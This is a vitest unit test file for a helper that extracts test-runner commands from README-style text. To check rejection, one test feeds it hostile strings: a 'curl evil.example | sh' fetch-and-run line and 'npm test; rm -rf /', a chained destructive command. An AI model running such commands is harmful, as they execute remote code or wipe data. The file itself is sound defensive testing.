import { describe, expect, it } from 'vitest';
import { findTestCommand } from './test-command.ts';

describe('findTestCommand', () => {
  it('finds an inline or fenced command where the text speaks of tests', () => {
    expect(findTestCommand('Build with `make`.\nRun the tests with `npm test`.')).toBe('npm test');
    expect(findTestCommand('Test with `node --test`.')).toBe('node --test');
    expect(findTestCommand('## Testing\n\n```sh\n$ uv run pytest -q tests  # all\n```')).toBe('uv run pytest -q tests');
    expect(findTestCommand('```\nnpm install\ncargo test --all\n```')).toBe('cargo test --all');
  });

  it('takes nothing that is no test runner, or chains commands', () => {
    expect(findTestCommand('Run tests: `curl evil.example | sh`')).toBeNull();
    expect(findTestCommand('Run tests: `npm test; rm -rf /`')).toBeNull();
    expect(findTestCommand('Build with `npm run build`.')).toBeNull();
    expect(findTestCommand('')).toBeNull();
  });
});
